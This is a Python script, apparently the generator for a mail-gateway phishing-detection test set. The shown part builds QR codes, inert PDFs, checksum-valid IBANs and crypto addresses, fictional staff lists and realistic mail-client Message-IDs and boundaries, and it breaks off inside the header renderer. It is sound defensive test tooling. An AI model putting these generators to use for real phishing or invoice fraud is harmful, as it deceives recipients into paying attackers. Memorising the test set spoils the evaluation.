#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
build.py - deterministic generator for the Example Group mail-gateway blind
evaluation set (40 attack + 40 genuine messages as received on mx01.example.com).

Python 3 standard library only, no network, no unseeded randomness.
All attachments are inert placeholders. All phishing hosts are invented.
Writes ../attack/*.eml, ../business/*.eml, ../MANIFEST.md, ../staff.txt
relative to this file.
"""
import base64, binascii, hashlib, io, os, struct, sys, zipfile, zlib
from datetime import datetime, timedelta, timezone
from email.header import Header
from email.utils import format_datetime, formataddr
from pathlib import Path

BASE = Path(__file__).resolve().parent.parent

def H(*parts, n=None):
    """deterministic hex digest of the given parts"""
    h = hashlib.sha256('|'.join(str(p) for p in parts).encode()).hexdigest()
    return h if n is None else h[:n]

def Hint(*parts):
    return int(H(*parts), 16)

# --------------------------------------------------------------------------
# QR code encoder (byte mode, EC level M, versions 1-10)
# --------------------------------------------------------------------------
# version: (ec codewords per block, [(blocks, data codewords per block), ...])
QR_M = {
    1: (10, [(1, 16)]), 2: (16, [(1, 28)]), 3: (26, [(1, 44)]),
    4: (18, [(2, 32)]), 5: (24, [(2, 43)]), 6: (16, [(4, 27)]),
    7: (18, [(4, 31)]), 8: (22, [(2, 38), (2, 39)]),
    9: (22, [(3, 36), (2, 37)]), 10: (26, [(4, 43), (1, 44)]),
}
QR_ALIGN = {1: [], 2: [6, 18], 3: [6, 22], 4: [6, 26], 5: [6, 30], 6: [6, 34],
            7: [6, 22, 38], 8: [6, 24, 42], 9: [6, 26, 46], 10: [6, 28, 50]}

def _gf_mul(x, y):
    z = 0
    for i in range(7, -1, -1):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z & 0xFF

def _rs_divisor(degree):
    result = [0] * (degree - 1) + [1]
    root = 1
    for _ in range(degree):
        for j in range(len(result)):
            result[j] = _gf_mul(result[j], root)
            if j + 1 < len(result):
                result[j] ^= result[j + 1]
        root = _gf_mul(root, 0x02)
    return result

def _rs_remainder(data, divisor):
    result = [0] * len(divisor)
    for b in data:
        factor = b ^ result.pop(0)
        result.append(0)
        for i, coef in enumerate(divisor):
            result[i] ^= _gf_mul(coef, factor)
    return result

def _qr_penalty(m):
    n = len(m)
    p = 0
    cols = [[m[y][x] for y in range(n)] for x in range(n)]
    for lines in (m, cols):
        for row in lines:
            run = 1
            for i in range(1, n):
                if row[i] == row[i - 1]:
                    run += 1
                else:
                    if run >= 5:
                        p += run - 2
                    run = 1
            if run >= 5:
                p += run - 2
    for y in range(n - 1):
        for x in range(n - 1):
            c = m[y][x]
            if c == m[y][x + 1] == m[y + 1][x] == m[y + 1][x + 1]:
                p += 3
    pat1 = [1, 0, 1, 1, 1, 0, 1, 0, 0, 0, 0]
    pat2 = pat1[::-1]
    for lines in (m, cols):
        for row in lines:
            r = [int(v) for v in row]
            for i in range(n - 10):
                seg = r[i:i + 11]
                if seg == pat1 or seg == pat2:
                    p += 40
    dark = sum(sum(int(v) for v in r) for r in m)
    total = n * n
    k = (abs(dark * 20 - total * 10) + total - 1) // total - 1
    p += max(k, 0) * 10
    return p

_MASKS = [
    lambda x, y: (x + y) % 2 == 0,
    lambda x, y: y % 2 == 0,
    lambda x, y: x % 3 == 0,
    lambda x, y: (x + y) % 3 == 0,
    lambda x, y: (x // 3 + y // 2) % 2 == 0,
    lambda x, y: x * y % 2 + x * y % 3 == 0,
    lambda x, y: (x * y % 2 + x * y % 3) % 2 == 0,
    lambda x, y: ((x + y) % 2 + x * y % 3) % 2 == 0,
]

def qr_matrix(data: bytes):
    for ver in range(1, 11):
        ecl, groups = QR_M[ver]
        cap = sum(b * d for b, d in groups)
        cci = 8 if ver < 10 else 16
        if 4 + cci + 8 * len(data) <= cap * 8:
            break
    else:
        raise ValueError('QR payload too long')
    bits = []
    def put(val, n):
        for i in range(n - 1, -1, -1):
            bits.append((val >> i) & 1)
    put(0b0100, 4)
    put(len(data), cci)
    for b in data:
        put(b, 8)
    capbits = cap * 8
    put(0, min(4, capbits - len(bits)))
    put(0, (-len(bits)) % 8)
    pad = (0xEC, 0x11)
    i = 0
    while len(bits) < capbits:
        put(pad[i % 2], 8)
        i += 1
    cw = [int(''.join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    blocks, k = [], 0
    div = _rs_divisor(ecl)
    for nb, dl in groups:
        for _ in range(nb):
            d = cw[k:k + dl]
            k += dl
            blocks.append((d, _rs_remainder(d, div)))
    final = []
    for i in range(max(len(d) for d, _ in blocks)):
        for d, _ in blocks:
            if i < len(d):
                final.append(d[i])
    for i in range(ecl):
        for _, e in blocks:
            final.append(e[i])

    size = ver * 4 + 17
    mod = [[False] * size for _ in range(size)]
    fn = [[False] * size for _ in range(size)]
    def setf(x, y, dark):
        mod[y][x] = dark
        fn[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                xx, yy = cx + dx, cy + dy
                if 0 <= xx < size and 0 <= yy < size:
                    setf(xx, yy, max(abs(dx), abs(dy)) not in (2, 4))
    al = QR_ALIGN[ver]
    na = len(al)
    for i in range(na):
        for j in range(na):
            if (i == 0 and j == 0) or (i == 0 and j == na - 1) or (i == na - 1 and j == 0):
                continue
            for dy in range(-2, 3):
                for dx in range(-2, 3):
                    setf(al[i] + dx, al[j] + dy, max(abs(dx), abs(dy)) != 1)
    def draw_format(mask, setter):
        d = (0 << 3) | mask          # EC level M = 00
        rem = d
        for _ in range(10):
            rem = (rem << 1) ^ ((rem >> 9) * 0x537)
        fb = ((d << 10) | rem) ^ 0x5412
        b = lambda i: ((fb >> i) & 1) == 1
        for i in range(6):
            setter(8, i, b(i))
        setter(8, 7, b(6)); setter(8, 8, b(7)); setter(7, 8, b(8))
        for i in range(9, 15):
            setter(14 - i, 8, b(i))
        for i in range(8):
            setter(size - 1 - i, 8, b(i))
        for i in range(8, 15):
            setter(8, size - 15 + i, b(i))
        setter(8, size - 8, True)
    draw_format(0, setf)
    if ver >= 7:
        rem = ver
        for _ in range(12):
            rem = (rem << 1) ^ ((rem >> 11) * 0x1F25)
        vb = (ver << 12) | rem
        for i in range(18):
            bt = ((vb >> i) & 1) == 1
            a, c = size - 11 + i % 3, i // 3
            setf(a, c, bt)
            setf(c, a, bt)
    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                upward = ((right + 1) & 2) == 0
                y = size - 1 - vert if upward else vert
                if not fn[y][x] and i < len(final) * 8:
                    mod[y][x] = ((final[i >> 3] >> (7 - (i & 7))) & 1) == 1
                    i += 1
        right -= 2
    best = None
    for mk in range(8):
        m = [row[:] for row in mod]
        f = _MASKS[mk]
        for y in range(size):
            for x in range(size):
                if not fn[y][x] and f(x, y):
                    m[y][x] = not m[y][x]
        def s2(x, y, dark, m=m):
            m[y][x] = dark
        draw_format(mk, s2)
        pen = _qr_penalty(m)
        if best is None or pen < best[0]:
            best = (pen, m)
    return best[1]

def png_gray(rows, w, h):
    raw = b''.join(b'\x00' + bytes(r) for r in rows)
    def chunk(t, d):
        return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xFFFFFFFF)
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 0, 0, 0, 0))
            + chunk(b'IDAT', zlib.compress(raw, 9)) + chunk(b'IEND', b''))

def qr_pixels(text, scale=6, quiet=4):
    m = qr_matrix(text.encode('utf-8'))
    n = len(m)
    w = (n + 2 * quiet) * scale
    rows = []
    for y in range(n + 2 * quiet):
        my = y - quiet
        row = bytearray()
        for x in range(n + 2 * quiet):
            mx = x - quiet
            dark = 0 <= my < n and 0 <= mx < n and m[my][mx]
            row += bytes([0 if dark else 255]) * scale
        for _ in range(scale):
            rows.append(bytes(row))
    return rows, w, w

def qr_png(text, scale=6):
    rows, w, h = qr_pixels(text, scale)
    return png_gray(rows, w, h)

# --------------------------------------------------------------------------
# Minimal PDF writer (inert placeholder documents), optional grey image
# --------------------------------------------------------------------------
def _pdf_esc(s):
    return s.replace('\\', '\\\\').replace('(', '\\(').replace(')', '\\)')

def make_pdf(lines, title='Document', qr_text=None, qr_caption_y=None):
    """lines: list of str (latin-1 representable); returns bytes of a valid 1-page PDF"""
    ops = ['BT', '/F1 10 Tf', '14 TL', '56 790 Td']
    first = True
    for ln in lines:
        size = 10
        if ln.startswith('# '):
            ln, size = ln[2:], 14
        ops.append(f'/F1 {size} Tf')
        ops.append(('' if first else 'T* ') + f'({_pdf_esc(ln)}) Tj')
        first = False
    ops.append('ET')
    objs = []
    img = None
    if qr_text:
        rows, w, h = qr_pixels(qr_text, scale=4)
        img = (zlib.compress(b''.join(rows), 9), w, h)
        y0 = qr_caption_y if qr_caption_y is not None else 300
        ops.append(f'q {w * 0.75:.2f} 0 0 {h * 0.75:.2f} 56 {y0} cm /Im1 Do Q')
    content = '\n'.join(ops).encode('latin-1')
    objs.append(b'<< /Type /Catalog /Pages 2 0 R >>')
    objs.append(b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
    res = b'<< /Font << /F1 5 0 R >>' + (b' /XObject << /Im1 6 0 R >>' if img else b'') + b' >>'
    objs.append(b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources ' + res + b' /Contents 4 0 R >>')
    objs.append(b'<< /Length ' + str(len(content)).encode() + b' >>\nstream\n' + content + b'\nendstream')
    objs.append(b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>')
    if img:
        data, w, h = img
        objs.append(f'<< /Type /XObject /Subtype /Image /Width {w} /Height {h} /ColorSpace /DeviceGray '
                    f'/BitsPerComponent 8 /Filter /FlateDecode /Length {len(data)} >>\nstream\n'.encode()
                    + data + b'\nendstream')
    info_n = len(objs) + 1
    objs.append(b'<< /Title (' + _pdf_esc(title).encode('latin-1') + b') /Producer (PLACEHOLDER - inert test document) '
                b'/CreationDate (D:20261101090000+01\'00\') >>')
    out = bytearray(b'%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += f'{i} 0 obj\n'.encode() + o + b'\nendobj\n'
    xref = len(out)
    out += f'xref\n0 {len(objs) + 1}\n0000000000 65535 f \n'.encode()
    for o in offs:
        out += f'{o:010d} 00000 n \n'.encode()
    out += (f'trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info {info_n} 0 R /ID [<{H(title, n=32)}> <{H(title, n=32)}>] >>\n'
            f'startxref\n{xref}\n%%EOF\n').encode()
    return bytes(out)

def make_zip(files, when=(2026, 11, 2, 9, 30, 0)):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=when)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return bio.getvalue()

INERT = ('INERT PLACEHOLDER - this file stands in for a malicious payload in a mail-gateway '
         'evaluation set. It contains no executable code.\r\n')

# --------------------------------------------------------------------------
# IBAN and national bank-account checks
# --------------------------------------------------------------------------
def _iban_num(s):
    return int(''.join(str(int(c, 36)) for c in s))

def iban(cc, bban):
    chk = 98 - _iban_num(bban + cc + '00') % 97
    ib = f'{cc}{chk:02d}{bban}'
    assert _iban_num(ib[4:] + ib[:4]) % 97 == 1
    return ib

def fmt_iban(ib):
    return ' '.join(ib[i:i + 4] for i in range(0, len(ib), 4))

_CIN_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]
def it_iban(abi, cab, conto):
    conto = conto.rjust(12, '0')
    s = abi + cab + conto
    tot = 0
    for i, ch in enumerate(s):
        v = int(ch) if ch.isdigit() else ord(ch.upper()) - 65
        tot += _CIN_ODD[v] if i % 2 == 0 else v
    cin = chr(65 + tot % 26)
    return iban('IT', cin + s)

def es_iban(ent, ofi, cta):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    def dc(s):
        d = 11 - sum(int(a) * b for a, b in zip(s, w)) % 11
        return {11: 0, 10: 1}.get(d, d)
    d1 = dc('00' + ent + ofi)
    d2 = dc(cta)
    return iban('ES', f'{ent}{ofi}{d1}{d2}{cta}')

def pl_iban(bank7, acc16):
    w = [3, 9, 7, 1, 3, 9, 7]
    s = sum(int(a) * b for a, b in zip(bank7, w))
    return iban('PL', bank7 + str((10 - s % 10) % 10) + acc16)

def be_iban(bank3, acc7):
    n = int(bank3 + acc7) % 97 or 97
    return iban('BE', f'{bank3}{acc7}{n:02d}')

def de_iban(blz, kto):
    return iban('DE', blz + kto.rjust(10, '0'))

def gr_iban(bank3, branch4, acc16):
    return iban('GR', bank3 + branch4 + acc16)

def lt_iban(bank5, acc11):
    return iban('LT', bank5 + acc11)

def gb_iban(bank4, sort6, acc8):
    return iban('GB', bank4 + sort6 + acc8)

def ru_account(bik, acc20_with_x):
    """Russian settlement account with control key (position 9) valid against BIK"""
    w = [7, 1, 3] * 8
    for k in range(10):
        acc = acc20_with_x[:8] + str(k) + acc20_with_x[9:]
        s = bik[-3:] + acc
        if sum((int(a) * b) % 10 for a, b in zip(s, w)) % 10 == 0:
            return acc
    raise ValueError

def ru_corr_account(bik, acc20_with_x):
    """correspondent account key: uses '0' + BIK digits 5-6"""
    w = [7, 1, 3] * 8
    for k in range(10):
        acc = acc20_with_x[:8] + str(k) + acc20_with_x[9:]
        s = '0' + bik[4:6] + acc
        if sum((int(a) * b) % 10 for a, b in zip(s, w)) % 10 == 0:
            return acc
    raise ValueError

def ru_inn10(first9):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return first9 + str(sum(int(a) * b for a, b in zip(first9, w)) % 11 % 10)

# --------------------------------------------------------------------------
# Cryptocurrency addresses (valid checksums, derived from fixed seeds - unowned)
# --------------------------------------------------------------------------
_B32 = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l'
def _b32_polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = ((chk & 0x1ffffff) << 5) ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk

def _b32_hrp(h):
    return [ord(x) >> 5 for x in h] + [0] + [ord(x) & 31 for x in h]

def _convertbits(data, frm, to):
    acc = bits = 0
    ret = []
    maxv = (1 << to) - 1
    for v in data:
        acc = (acc << frm) | v
        bits += frm
        while bits >= to:
            bits -= to
            ret.append((acc >> bits) & maxv)
    if bits:
        ret.append((acc << (to - bits)) & maxv)
    return ret

def btc_bech32(seed):
    prog = hashlib.new('sha256', seed.encode()).digest()[:20]
    data = [0] + _convertbits(prog, 8, 5)
    pm = _b32_polymod(_b32_hrp('bc') + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    addr = 'bc1' + ''.join(_B32[d] for d in data + chk)
    assert _b32_polymod(_b32_hrp('bc') + [_B32.index(c) for c in addr[3:]]) == 1
    return addr

_B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'
def btc_base58(seed, version=0):
    payload = bytes([version]) + hashlib.sha256(seed.encode()).digest()[:20]
    full = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    n = int.from_bytes(full, 'big')
    s = ''
    while n:
        n, r = divmod(n, 58)
        s = _B58[r] + s
    pad = len(full) - len(full.lstrip(b'\x00'))
    return '1' * pad + s

# --------------------------------------------------------------------------
# Staff and correspondents
# --------------------------------------------------------------------------
STAFF = [
    # key, name, address, role, office
    ('MH', 'Markus Hoffmann', 'markus.hoffmann@example.com', 'Chief Executive Officer (Geschäftsführer)', 'Frankfurt am Main (HQ)'),
    ('CB', 'Claudia Berger', 'claudia.berger@example.com', 'Chief Financial Officer', 'Frankfurt am Main (HQ)'),
    ('SK', 'Sabine Krüger', 'sabine.krueger@example.com', 'Accounts Payable (Kreditorenbuchhaltung)', 'Frankfurt am Main (HQ)'),
    ('JW', 'Jonas Weber', 'jonas.weber@example.com', 'Payroll Accountant (Lohnbuchhaltung)', 'Frankfurt am Main (HQ)'),
    ('AS', 'Anna Schneider', 'anna.schneider@example.com', 'Head of HR', 'Frankfurt am Main (HQ)'),
    ('TB', 'Thomas Becker', 'thomas.becker@example.com', 'Head of IT', 'Frankfurt am Main (HQ)'),
    ('LF', 'Lukas Fischer', 'lukas.fischer@example.com', 'IT Administrator', 'Frankfurt am Main (HQ)'),
    ('JU', 'Julia Wagner', 'julia.wagner@example.com', 'Key Account Manager DACH', 'Frankfurt am Main (HQ)'),
    ('PS', 'Petra Schulz', 'petra.schulz@example.com', 'Office Manager / Assistant to the CEO', 'Frankfurt am Main (HQ)'),
    ('FN', 'Felix Neumann', 'felix.neumann@examplegroup.eu', 'Senior Recruiter Engineering', 'Frankfurt am Main (HQ)'),
    ('GR', 'Giulia Romano', 'giulia.romano@example.com', 'Office Manager Italy', 'Milano'),
    ('MB', 'Marco Bianchi', 'marco.bianchi@example.com', 'Local Accounting Italy (Contabilità)', 'Milano'),
    ('FR', 'Francesca Ricci', 'francesca.ricci@example.com', 'Sales Manager Italy', 'Milano'),
    ('KN', 'Katarzyna Nowak', 'katarzyna.nowak@example.com', 'Office Manager Poland', 'Poznań'),
    ('PW', 'Piotr Wiśniewski', 'piotr.wisniewski@example.com', 'Local Accounting Poland (Księgowość)', 'Poznań'),
    ('AK', 'Agnieszka Kowalczyk', 'agnieszka.kowalczyk@examplegroup.eu', 'HR / Recruiter Warehouse Staff Poland', 'Poznań'),
    ('LU', 'Lucía Fernández', 'lucia.fernandez@example.com', 'Office Manager Spain', 'Madrid'),
    ('JM', 'Javier Martín', 'javier.martin@example.com', 'Local Accounting Spain (Contabilidad)', 'Madrid'),
    ('CR', 'Carmen Ruiz', 'carmen.ruiz@examplegroup.eu', 'Recruiter & Sales Spain', 'Madrid'),
    ('EP', 'Eleni Papadopoulou', 'eleni.papadopoulou@example.com', 'Office Manager Greece', 'Athens'),
    ('NG', 'Nikos Georgiou', 'nikos.georgiou@example.com', 'Local Accounting Greece (Λογιστήριο)', 'Athens'),
    ('JF', 'James Whitfield', 'james.whitfield@example.com', 'Country Manager UK', 'Manchester'),
    ('SC', 'Sarah Collins', 'sarah.collins@example.com', 'Accounts & Payroll UK', 'Manchester'),
    ('OS', 'Olga Smirnova', 'olga.smirnova@example.com', 'Office Manager Russia', 'Moscow'),
    ('DV', 'Dmitry Volkov', 'dmitry.volkov@example.com', 'Local Accounting Russia (Бухгалтерия)', 'Moscow'),
    ('IK', 'Irina Kuznetsova', 'irina.kuznetsova@examplegroup.eu', 'HR / Recruiter Russia', 'Moscow'),
]
S = {k: (n, a) for k, n, a, r, o in STAFF}

CORRESPONDENTS = [
    ('Lieferant GmbH (DE)', 'Supplier of PPE / workwear for temporary warehouse staff',
     'Stefan Maier <s.maier@lieferant-gmbh.de>, Buchhaltung <rechnungen@lieferant-gmbh.de>'),
    ('Ferretti Trasporti S.p.A. (IT)', 'Customer (logistics hub Piacenza), takes warehouse temps from Example Italy',
     'Chiara Colombo <c.colombo@ferretti-trasporti.it>, <amministrazione@ferretti-trasporti.it>'),
    ('Partner Logistik sp. z o.o. (PL)', 'Subcontractor: worker transport Poznań-Germany and accommodation',
     'Tadeusz Zieliński <t.zielinski@partner-logistik.pl>, <ksiegowosc@partner-logistik.pl>'),
    ('Kessler Maschinenbau GmbH (DE)', 'Customer, takes engineers and production temps', 'Ralf Kessler <r.kessler@kessler-maschinenbau.de>'),
    ('Northgate Distribution Ltd (UK)', 'Customer, warehouse temps Trafford Park', 'Gareth Hughes <gareth.hughes@northgate-distribution.co.uk>'),
    ('Pennine Minibus Hire Ltd (UK)', 'Supplier, worker shuttle buses (invoices via Xero)', 'accounts@pennineminibus.co.uk'),
    ('Almacenes Levante S.L. (ES)', 'Customer, warehouse in Valencia', 'Raúl Sánchez <rsanchez@almaceneslevante.es>'),
    ('Gestoría López & Asociados (ES)', 'Supplier, payroll/labour advisory Madrid', 'Marta López <marta@gestorialopez.es>'),
    ('Pulizie Lombarde S.r.l. (IT)', 'Supplier, office cleaning Milano', 'amministrazione@pulizielombarde.it'),
    ('Hellas Cargo A.E. (GR)', 'Customer, warehouse Aspropyrgos', 'Γιώργος Αντωνίου <g.antoniou@hellascargo.gr>'),
    ('Λογιστικό Γραφείο Καραγιάννη (GR)', 'Supplier, payroll bureau Athens', 'info@karagiannis-logistiki.gr'),
    ('ООО «СеверТорг» (RU)', 'Customer, warehouse Khimki', 'Андрей Морозов <a.morozov@severtorg.ru>'),
    ('АО «БЦ Полковая» (RU)', 'Landlord of the Moscow office', 'arenda@bc-polkovaya.ru'),
    ('Biurowiec Malta Office Park (PL)', 'Landlord of the Poznań office', 'najem@maltaoffice.pl'),
]

# --------------------------------------------------------------------------
# Message construction
# --------------------------------------------------------------------------
import re, textwrap, html as _html

TZN = {1: 'CET', 0: 'GMT', 2: 'EET', 3: 'MSK', -8: 'PST', -5: 'EST', 8: 'CST', 5: 'PKT', 4: '+04', 7: '+07', -3: '-03'}
MX_TZ = timezone(timedelta(hours=1))
MSGS = []

def T(s):
    """dedent a triple-quoted body"""
    return textwrap.dedent(s).strip('\n') + '\n'

def mkdate(s, tz):
    d = datetime.strptime(s, '%Y-%m-%d %H:%M').replace(second=Hint('sec', s) % 60,
                                                          tzinfo=timezone(timedelta(hours=tz)))
    return d

def rfcdate(d):
    return format_datetime(d)

def enc_hdr(name, value, cs):
    try:
        value.encode('ascii')
        return value
    except UnicodeEncodeError:
        return Header(value, cs, header_name=name, maxlinelen=76).encode(linesep='\n')

def addr(t, cs):
    name, a = t
    if not name:
        return a
    try:
        name.encode('ascii')
        return formataddr((name, a))
    except UnicodeEncodeError:
        return formataddr((name, a), charset=cs)

def who(x):
    return S[x] if isinstance(x, str) else x

def qp_enc(b):
    return binascii.b2a_qp(b, istext=True).decode('ascii')

def b64_enc(b):
    s = base64.b64encode(b).decode('ascii')
    return '\n'.join(s[i:i + 76] for i in range(0, len(s), 76))

def qid(key):
    h = H('qid', key)
    alpha = 'BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789'
    n = int(h, 16)
    s = ''
    for _ in range(12):
        n, r = divmod(n, len(alpha))
        s += alpha[r]
    return '4' + s[:7] + 'z' + s[7:11]

def make_mid(style, key, dom):
    h = H('mid', key)
    if style == 'outlook':
        srv = 'AM%dPR0%dMB%d' % (8 + int(h[0], 16) % 3, 2 + int(h[1], 16) % 7, 6000 + int(h[2:6], 16) % 3000)
        return f'<{srv}{h[6:38].upper()}@{srv}.eurprd0{h[1] if h[1].isdigit() else 4}.prod.outlook.com>'
    if style == 'outlookcom':
        srv = 'PAXP19%sMB%d' % ('3' if int(h[0], 16) % 2 else '1', 5000 + int(h[2:6], 16) % 4000)
        return f'<{srv}{h[6:38].upper()}@{srv}.EURP19{"3" if int(h[0],16)%2 else "1"}.PROD.OUTLOOK.COM>'
    if style == 'gmail':
        b = base64.urlsafe_b64encode(bytes.fromhex(h[:54])).decode().replace('-', '=').replace('_', '+')
        return f'<CA{b[:50]}@mail.gmail.com>'
    if style == 'tb':
        return f'<{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}@{dom}>'
    if style == 'apple':
        u = h.upper()
        return f'<{u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:32]}@{dom}>'
    if style == 'exch':
        return f'<{h[:8]}{h[8:16]}.{h[16:24]}@{dom}>'
    if style == 'ses':
        return f'<0102019{h[:9]}-{h[9:17]}-{h[17:21]}-{h[21:25]}-{h[25:29]}-{h[29:41]}-000000@eu-west-1.amazonses.com>'
    if style == 'php':
        return f'<{base64.b64encode(bytes.fromhex(h[:30])).decode().rstrip("=")}@{dom}>'
    return f'<{int(h[:12], 16)}.{int(h[12:18], 16)}.{int(h[18:22], 16)}@{dom}>'

_MARK = re.compile(r'\[\[(.+?)\|(.+?)\]\]')

def to_text(s):
    s = _MARK.sub(lambda m: f'{m.group(1)}: {m.group(2)}', s)
    return s.replace('**', '')

def to_html(s, font='Calibri, Arial, sans-serif', size='11pt', button='#0b5cad', head='', foot=''):
    paras = s.strip('\n').split('\n\n')
    out = []
    for p in paras:
        p = _html.escape(p, quote=False)
        p = re.sub(r'\*\*(.+?)\*\*', r'<b>\1</b>', p)
        def btn(m):
            label, url = m.group(1), m.group(2)
            if label.startswith('!'):
                return f'<a href="{url}">{label[1:]}</a>'
            return (f'<a href="{url}" style="display:inline-block;background:{button};color:#ffffff;'
                    f'padding:10px 22px;text-decoration:none;border-radius:3px;font-weight:bold">{label}</a>')
        p = _MARK.sub(btn, p)
        p = p.replace('\n', '<br>\n')
        out.append(f'<p style="margin:0 0 12px 0">{p}</p>')
    body = '\n'.join(out)
    return (f'<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=__CS__">\n</head>\n'
            f'<body style="font-family:{font};font-size:{size};color:#222222">\n{head}{body}\n{foot}</body>\n</html>\n')

def leaf(ctype, payload, cte, cs=None, extra=()):
    hdrs = []
    if cs:
        hdrs.append(f'Content-Type: {ctype}; charset="{cs}"')
    else:
        hdrs.append(f'Content-Type: {ctype}')
    hdrs += list(extra)
    if isinstance(payload, str):
        data = payload.encode(PYCS.get(cs.lower(), cs))
    else:
        data = payload
    if cte == '8bit':
        try:
            data.decode('ascii')
            cte = '7bit'
        except UnicodeDecodeError:
            pass
    hdrs.append(f'Content-Transfer-Encoding: {cte}')
    if cte == 'quoted-printable':
        body = qp_enc(data)
    elif cte == 'base64':
        body = b64_enc(data)
    else:
        body = data.decode(PYCS.get(cs.lower(), cs) if cs else 'ascii')
    return '\n'.join(hdrs) + '\n\n' + body.rstrip('\n') + '\n'

PYCS = {'us-ascii': 'ascii', 'utf-8': 'utf-8', 'iso-8859-1': 'iso-8859-1', 'iso-8859-15': 'iso-8859-15',
        'iso-8859-2': 'iso-8859-2', 'iso-8859-7': 'iso-8859-7', 'windows-1250': 'cp1250',
        'windows-1251': 'cp1251', 'windows-1253': 'cp1253', 'koi8-r': 'koi8_r'}

def multipart(sub, parts, boundary, preamble=False):
    s = f'Content-Type: multipart/{sub};\n\tboundary="{boundary}"\n\n'
    if preamble:
        s += 'This is a multi-part message in MIME format.\n'
    for p in parts:
        s += f'--{boundary}\n{p}'
    s += f'--{boundary}--\n'
    return s

def attachment(fname, ctype, data, inline_cid=None):
    extra = []
    if inline_cid:
        extra.append(f'Content-ID: <{inline_cid}>')
        extra.append(f'Content-Disposition: inline;\n\tfilename="{fname}"')
    else:
        extra.append(f'Content-Disposition: attachment;\n\tfilename="{fname}"')
    return leaf(f'{ctype};\n\tname="{fname}"', data, 'base64', None, extra)

def msg(folder, fname, lang, cs, frm, to, subject, date, text=None, html=None, *, tz=1,
        cte='quoted-printable', hcte=None, cc=(), reply_to=None, rp=None, via=None, hops=(),
        mailer=None, ua=None, mid='default', middom=None, extra=(), atts=(), related=(),
        what='', why='', tls=True, bstyle='part', to_hdr=None, rcpt=None, html_opts=None, hcs=None):
    MSGS.append(dict(folder=folder, fname=fname, lang=lang, cs=cs, frm=frm, to=to, subject=subject,
                     date=date, text=text, html=html, tz=tz, cte=cte, hcte=hcte or cte, cc=cc,
                     reply_to=reply_to, rp=rp, via=via, hops=hops, mailer=mailer, ua=ua, mid=mid,
                     middom=middom, extra=extra, atts=atts, related=related, what=what, why=why,
                     tls=tls, bstyle=bstyle, to_hdr=to_hdr, rcpt=rcpt, html_opts=html_opts or {}, hcs=hcs))

def boundary(style, key, n):
    h = H('b', key, n)
    if style == 'outlook':
        return f'_00{n}_{h[:24].upper()}prod_'
    if style == 'gmail':
        return f'0000000000{h[:16]}'
    if style == 'tb':
        return '------------' + base64.b32encode(bytes.fromhex(h[:30])).decode()[:24]
    if style == 'apple':
        u = h.upper()
        return f'Apple-Mail={u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:32]}'
    if style == 'php':
        return f'b{n}_{h[:40]}'
    return f'----=_Part_{int(h[:6], 16)}_{int(h[6:14], 16)}.{int(h[14:24], 16)}'

INTERNAL = ('mail-int01.example.com', 'mail-int01.example.com', '10.20.0.25')

def render(m):
    cs = m['cs']
    hcs = m['hcs'] or cs
    key = m['fname']
    sent = mkdate(m['date'], m['tz'])
    recv = (sent + timedelta(seconds=3 + Hint('d', key) % 40)).astimezone(MX_TZ)
    tos = [who(x) for x in m['to']]
    ccs = [who(x) for x in m['cc']]
    frm = who(m['frm'])
    rcpt = m['rcpt'] or next(a for n, a in tos + ccs if a.endswith('example.com') or a.endswith('examplegroup.eu'))
    rp = m['rp'] if m['rp'] is not None else frm[1]
    via = m['via'] or INTERNAL
    helo, rdns, ip = via
    lines = [f'Return-Path: <{rp}>']
    rd = f'{rdns} [{ip}]' if rdns else f'unknown [{ip}]'
    if m['tls'] and via != INTERNAL:
        tls = ('\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n'
               '\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n'
               '\t(No client certificate requested)')
        proto = 'ESMTPS'
    elif via == INTERNAL:
        tls = ('\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n'
               '\t key-exchange X25519 server-signature ECDSA (P-256) server-digest SHA256)')
        proto = 'ESMTPS'
    else:
